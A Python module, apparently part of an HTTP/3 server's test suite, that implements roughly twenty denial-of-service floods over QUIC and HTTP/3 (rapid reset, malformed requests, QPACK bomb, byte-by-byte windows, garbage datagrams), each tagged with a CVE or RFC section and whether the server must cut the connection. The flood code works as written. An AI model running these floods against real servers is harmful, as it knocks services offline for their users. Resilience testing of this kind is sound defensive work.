"""Attacks over HTTP/3, each by the name under which it is known."""

from __future__ import annotations

import dataclasses
import itertools
import os
from collections.abc import Callable, Iterator

from aioquic.tls import Epoch

from . import fields
from .transport import Transport, configuration, varint

EXCESSIVE_LOAD = 0x107
SETTINGS = fields.frame(fields.SETTINGS, b"")
# Pieces of a flood that are given to QUIC at once.
BURST = 200
# Bytes of frames in a packet.
PACKET = 1100


@dataclasses.dataclass(frozen=True)
class Flood:
    """As much as flow control lets through, on one connection after the other."""

    name: str
    known_as: str
    # A generator: each step sends a piece of the attack, and yields its number of frames.
    steps: Callable[[Transport], Iterator[int]]
    # Whether the server must cut the connection off with H3_EXCESSIVE_LOAD.
    is_cut: bool
    # Whether the server reads bodies.
    server: str = "files"
    # The client's windows, where they are what is attacked.
    window: int = 16 << 20


def begin(attacker: Transport, settings: bytes = SETTINGS) -> int:
    """The control stream; gives its number."""
    quic = attacker.quic
    stream = quic.get_next_available_stream_id(True)
    quic.send_stream_data(stream, b"\0" + settings)
    return stream


def streams(attacker: Transport, unidirectional: bool = False) -> list[int]:
    """New ones, as many as the server allows now. aioquic takes them for closed: their frames are made here."""
    quic, place = attacker.quic, "_local_next_stream_id_" + ("uni" if unidirectional else "bidi")
    allowed = quic._remote_max_streams_uni if unidirectional else quic._remote_max_streams_bidi
    first = getattr(quic, place)
    last = min(4 * allowed + first % 4, first + 4 * BURST)
    setattr(quic, place, max(first, last))
    return list(range(first, last, 4))


def send(attacker: Transport, made: list[bytes]) -> int:
    """Frames of QUIC, several to a packet; gives how many."""
    packets, packet = attacker.quic.raw.setdefault(Epoch.ONE_RTT, []), b""
    for frame in made:
        if len(packet) + len(frame) > PACKET:
            packets.append(packet)
            packet = b""
        packet += frame
    if packet:
        packets.append(packet)
    return len(made)


def stream_frame(stream: int, data: bytes, fin: bool = False) -> bytes:
    """RFC 9000 §19.8."""
    return bytes([0x0A | fin]) + varint(stream) + varint(len(data)) + data


def reset(stream: int, size: int) -> bytes:
    """RFC 9000 §19.4."""
    return b"\x04" + varint(stream) + varint(0x10C) + varint(size)


def on_streams(made: Callable[[int], bytes], unidirectional: bool = False) -> Callable[[Transport], Iterator[int]]:
    """The same on one stream after the other."""
    def steps(attacker: Transport) -> Iterator[int]:
        begin(attacker)
        while True:
            yield send(attacker, [made(stream) for stream in streams(attacker, unidirectional)])
    return steps


REQUEST = fields.headers()
LARGE_REQUEST = fields.headers(path="/large")
MALFORMED = fields.headers(("connection", "close"))
BLOCKED = fields.frame(fields.HEADERS, b"\x02\x00\x80")


def rapid_reset(stream: int) -> bytes:
    return stream_frame(stream, REQUEST) + reset(stream, len(REQUEST))


def stopped_response(stream: int) -> bytes:
    """STOP_SENDING instead of RESET_STREAM."""
    return stream_frame(stream, LARGE_REQUEST, True) + b"\x05" + varint(stream) + varint(0x10C)


def malformed(stream: int) -> bytes:
    """As MadeYouReset: the server itself has to reset the stream."""
    return stream_frame(stream, MALFORMED, True)


def blocked(stream: int) -> bytes:
    """Waits for an entry of QPACK's table that never comes, then is reset."""
    return stream_frame(stream, BLOCKED) + reset(stream, len(BLOCKED))


def unknown_stream(stream: int) -> bytes:
    return stream_frame(stream, varint(0x21) + b"grease", True)


def on_request(piece: bytes) -> Callable[[Transport], Iterator[int]]:
    """The same again and again behind the head of a request."""
    def steps(attacker: Transport) -> Iterator[int]:
        begin(attacker)
        attacker.quic.send_stream_data(0, fields.headers(method="POST"))
        while True:
            attacker.quic.send_stream_data(0, piece * BURST)
            yield BURST
    return steps


def on_control(pieces: Callable[[int], bytes]) -> Callable[[Transport], Iterator[int]]:
    def steps(attacker: Transport) -> Iterator[int]:
        control = begin(attacker)
        for number in itertools.count(0, BURST):
            attacker.quic.send_stream_data(control, b"".join(map(pieces, range(number, number + BURST))))
            yield BURST
    return steps


def on_stream(kind: bytes, piece: bytes) -> Callable[[Transport], Iterator[int]]:
    def steps(attacker: Transport) -> Iterator[int]:
        begin(attacker)
        stream = attacker.quic.get_next_available_stream_id(True)
        attacker.quic.send_stream_data(stream, kind)
        while True:
            attacker.quic.send_stream_data(stream, piece * BURST)
            yield BURST
    return steps


def large_heads(attacker: Transport) -> Iterator[int]:
    """Heads of 60 KB that do not end, on as many streams as there may be."""
    begin(attacker)
    begun = varint(fields.HEADERS) + varint(60_000) + bytes(2) + fields.integer(1, 3, 0x20) + b"a" + fields.integer(59_900, 7, 0)
    for stream in range(0, 128 * 4, 4):
        attacker.quic.send_stream_data(stream, begun + b"a" * 50_000)
        yield 1
    while True:
        yield 0


def bomb(attacker: Transport) -> Iterator[int]:
    """Each byte of the section stands for a field of 3,900 bytes."""
    begin(attacker)
    encoder = attacker.quic.get_next_available_stream_id(True)
    attacker.quic.send_stream_data(encoder, b"\x02\x3f\xe1\x1f" + fields.integer(6, 5, 0x40) + b"x-bomb"
                                   + fields.integer(3900, 7, 0) + b"b" * 3900)
    while True:
        for _ in range(10):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00" + b"\x80" * 15_000), True)
        yield 10


def tiny_windows(attacker: Transport) -> Iterator[int]:
    """128 large responses to a client that lets 1 byte more through each time."""
    begin(attacker)
    opened = streams(attacker)[:128]
    yield send(attacker, [stream_frame(stream, LARGE_REQUEST, True) for stream in opened])
    for window in itertools.count(2):
        yield send(attacker, [b"\x11" + varint(stream) + varint(window) for stream in opened])


def garbage(attacker: Transport) -> Iterator[int]:
    """Datagrams without content, of one byte, of random bytes and of almost an Initial packet, beside a connection."""
    long = bytes.fromhex("c300000001 08 0001020304050607 08 0001020304050607 00 44b0")
    kinds = (b"", b"\x40", os.urandom(1200), long + os.urandom(1177), b"\xc0\xff\x00\x00\x99" + os.urandom(1200), os.urandom(50))
    while True:
        for _ in range(BURST):
            for kind in kinds:
                try:
                    attacker.socket.send(kind)
                except OSError:
                    pass
        yield BURST * len(kinds)


UNKNOWN = fields.frame(0x21, b"")

FLOODS = (
    Flood("rapid reset", "CVE-2023-44487", on_streams(rapid_reset), True),
    Flood("responses stopped", "CVE-2023-44487", on_streams(stopped_response), True),
    Flood("malformed requests", "CVE-2025-8671", on_streams(malformed), True),
    Flood("empty DATA frames", "CVE-2019-9518", on_request(fields.frame(fields.DATA)), True, "proxy"),
    Flood("unknown frames on a request stream", "CVE-2019-9518", on_request(UNKNOWN), True, "proxy"),
    Flood("unknown frames on the control stream", "CVE-2019-9512", on_control(lambda _: UNKNOWN), True),
    Flood("PRIORITY_UPDATE of one stream", "CVE-2019-9513", on_control(lambda number: fields.priority_update(
        0, b"u=%d" % (number % 8))), True),
    Flood("PRIORITY_UPDATE of streams that never open", "CVE-2019-9513", on_control(lambda number: fields.priority_update(
        4 * (number % 100))), True),
    Flood("MAX_PUSH_ID", "CVE-2019-9515", on_control(lambda number: fields.frame(fields.MAX_PUSH_ID, varint(number))), True),
    Flood("GOAWAY", "CVE-2019-9515", on_control(lambda _: fields.frame(fields.GOAWAY, b"\0")), False),
    Flood("Set Dynamic Table Capacity", "QPACK", on_stream(b"\2", b"\x20\x3f\xe1\x1f"), False),
    Flood("entries inserted and never used", "QPACK", on_stream(b"\2\x3f\xe1\x1f", b"\x43abc\x03xyz"), False),
    Flood("Stream Cancellation of no stream", "QPACK", on_stream(b"\3", b"\x40"), False),
    # 16 may be open: fewer than what is let through in a short run.
    Flood("streams of unknown type", "RFC 9114 §6.2", on_streams(unknown_stream, True), False),
    Flood("streams blocked on QPACK's table", "QPACK", on_streams(blocked), True),
    Flood("streams blocked, instructions unread", "QPACK", on_streams(blocked), True, window=2),
    Flood("QPACK bomb", "CVE-2016-6581", bomb, False),
    Flood("heads of 60 KB that do not end", "RFC 9114 §10.5", large_heads, True),
    Flood("windows opened byte by byte", "CVE-2019-9511", tiny_windows, False, window=1),
    Flood("garbage and empty datagrams", "RFC 9000 §5.2", garbage, False),
)


def options(flood: Flood):
    return configuration(max_data=max(flood.window, 1 << 20), max_stream_data=flood.window)
